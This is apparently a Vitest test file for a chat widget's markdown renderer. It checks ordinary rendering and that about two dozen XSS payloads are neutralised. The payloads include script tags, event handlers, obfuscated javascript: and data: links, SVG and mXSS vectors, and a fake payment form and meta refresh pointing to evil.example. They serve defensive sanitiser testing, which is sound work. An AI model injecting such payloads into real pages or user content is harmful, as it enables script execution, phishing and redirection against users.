import { describe, expect, it } from "vitest";
import { renderMarkdown } from "../../widget/src/markdown";
import { safeLinkHref, xssCorpus } from "../helpers/xss-corpus";

function render(markdown: string): HTMLElement {
  const container = document.createElement("div");
  container.append(renderMarkdown(markdown));
  return container;
}

/** Everything that could run code or load active content, checked on the rendered DOM. */
function expectInert(container: HTMLElement) {
  expect(container.querySelector("script, svg, math, iframe, object, embed, form, input, style, base, meta, link, details")).toBeNull();
  for (const element of container.querySelectorAll("*")) {
    for (const attribute of element.attributes) {
      expect(attribute.name, `${element.tagName} ${attribute.name}`).not.toMatch(/^on/i);
      expect(["style", "srcdoc", "formaction", "action", "xlink:href"]).not.toContain(attribute.name);
    }
  }
  for (const link of container.querySelectorAll("[href]")) expect(link.getAttribute("href")).toMatch(/^(https?:|mailto:)/i);
  for (const image of container.querySelectorAll("[src]")) expect(image.getAttribute("src")).toMatch(/^https?:/i);
}

const payloads: Array<[string, string]> = [
  ["script tag", "<script>window.__pwned = 1</script>"],
  ["img onerror", '<img src="x" onerror="window.__pwned = 1">'],
  ["event handler on an allowed tag", '<p onclick="window.__pwned = 1" onmouseover="x()">hover</p>'],
  ["javascript: link in markdown", "[click](javascript:alert(1))"],
  ["javascript: link in HTML", '<a href="javascript:alert(1)">click</a>'],
  ["entity-obfuscated javascript: link in markdown", "[click](jav&#x61;script:alert(1))"],
  ["entity-obfuscated javascript: link in HTML", '<a href="jav&#x61;script:alert(1)">click</a>'],
  ["decimal entities", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'],
  ["tab inside the scheme", "[x](java\tscript:alert(1))"],
  ["named colon entity", '<a href="javascript&colon;alert(1)">x</a>'],
  ["data: link", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ["data: link in markdown", "[x](data:text/html,<script>alert(1)</script>)"],
  ["data: image", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"],
  ["javascript: image", "![x](javascript:alert(1))"],
  ["svg onload", '<svg onload="alert(1)"><circle r="5"/></svg>'],
  ["svg script", "<svg><script>alert(1)</script></svg>"],
  ["iframe srcdoc", "<iframe srcdoc=\"<script>parent.__pwned=1</script>\"></iframe>"],
  ["iframe src", '<iframe src="https://evil.example"></iframe>'],
  ["style tag", "<style>*{display:none}</style>"],
  ["style attribute", '<p style="position:fixed;inset:0">cover</p>'],
  ["form", '<form action="https://evil.example"><input name="card"><button>Pay</button></form>'],
  ["mXSS via math/style", '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">'],
  ["object", '<object data="javascript:alert(1)"></object>'],
  ["meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ["base href", '<base href="https://evil.example/">'],
  ["class borrowing the widget's UI", '<p class="cw-launcher" id="cw-panel">fake</p>'],
];

describe("renderMarkdown", () => {
  it("renders ordinary markdown: emphasis, lists, code blocks, tables", () => {
    const container = render("**bold** and *em*\n\n- one\n- two\n\n```js\nconst x = 1 < 2;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |");
    expect(container.querySelector("strong")?.textContent).toBe("bold");
    expect(container.querySelector("em")?.textContent).toBe("em");
    expect(container.querySelectorAll("li")).toHaveLength(2);
    expect(container.querySelector("pre code")?.textContent).toBe("const x = 1 < 2;\n");
    expect(container.querySelector("table td")?.textContent).toBe("1");
  });

  it("opens links in a new tab with rel=noopener noreferrer", () => {
    const link = render("[docs](https://example.com/docs) and <a href='mailto:hi@example.com'>mail</a>").querySelectorAll("a");
    expect(link[0]?.getAttribute("href")).toBe("https://example.com/docs");
    for (const a of link) {
      expect(a.getAttribute("target")).toBe("_blank");
      expect(a.getAttribute("rel")).toBe("noopener noreferrer");
    }
  });

  it("makes code blocks keyboard-scrollable", () => {
    expect(render("```\ncode\n```").querySelector("pre")?.getAttribute("tabindex")).toBe("0");
  });

  it("keeps http(s) images, lazily loaded without a referrer", () => {
    const image = render("![kettle](https://example.com/k.png)").querySelector("img");
    expect(image?.getAttribute("src")).toBe("https://example.com/k.png");
    expect(image?.getAttribute("referrerpolicy")).toBe("no-referrer");
  });

  it("drops relative links, which would resolve against the host page", () => {
    const link = render("[account](/account/delete)").querySelector("a");
    expect(link?.hasAttribute("href")).toBe(false);
    expect(link?.hasAttribute("target")).toBe(false);
  });

  it.each(payloads)("neutralises %s", (_name, payload) => {
    expectInert(render(payload));
  });

  it("neutralises the whole shared XSS corpus in one reply and still renders the safe link", () => {
    const container = render(xssCorpus);
    expectInert(container);
    expect(container.querySelector(`a[href="${safeLinkHref}"]`)).not.toBeNull();
  });

  it("leaves no class, id or style attribute for content to impersonate the widget with", () => {
    const container = render(payloads.map(([, payload]) => payload).join("\n\n"));
    expect(container.querySelector("[class], [id], [style]")).toBeNull();
  });
});
